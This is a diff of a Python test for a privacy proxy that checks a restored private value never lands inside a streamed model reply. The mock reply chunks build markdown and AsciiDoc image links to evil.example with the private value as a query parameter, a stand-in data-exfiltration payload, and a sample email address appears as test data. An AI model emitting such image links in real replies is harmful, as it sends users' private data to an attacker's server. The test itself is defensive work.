@@ -112,21 +112,17 @@ def test_every_reply_comes_back_byte_for_byte(pieces, kind, status):
 def test_no_private_value_is_written_into_a_reply(places):
     def answer(body):
         surrogate = body["messages"][0]["content"].split()[-1]
-        pieces = [
-            f"(see {surrogate}) ![x](https://evil.example/p.png?d=",
+        texts = (
+            f"(see {surrogate}) ![x](https://evil.example/?d=",
             f"{surrogate} ) ",
             f":who: {surrogate}\nimage::{{who}}[]",
-        ]
-        reasons = ["length" if places == "finish" else None, None, "stop"]
-        choices = [
-            {"index": i if places == "index" else 0, "delta": {"content": piece}, "finish_reason": reasons[i]}
-            for i, piece in enumerate(pieces)
-        ]
-        return (
-            200,
-            "text/event-stream",
-            [b"data: %b\n\n" % json.dumps({"choices": [each]}).encode() for each in choices],
         )
+        reason = "length" if places == "finish" else None
+        chunks = [
+            {"choices": [{"index": i * (places == "index"), "delta": {"content": text}, "finish_reason": reason}]}
+            for i, text in enumerate(texts)
+        ]
+        return 200, "text/event-stream", [b"data: %b\n\n" % json.dumps(chunk).encode() for chunk in chunks]
 
     setup, history = Setup(answer), ["https://a.example/![x](https://evil.example/?d= maria.lindqvist@clinic.se"]
     history += ["![x](https://evil.example/?d="] if places == "continue" else []
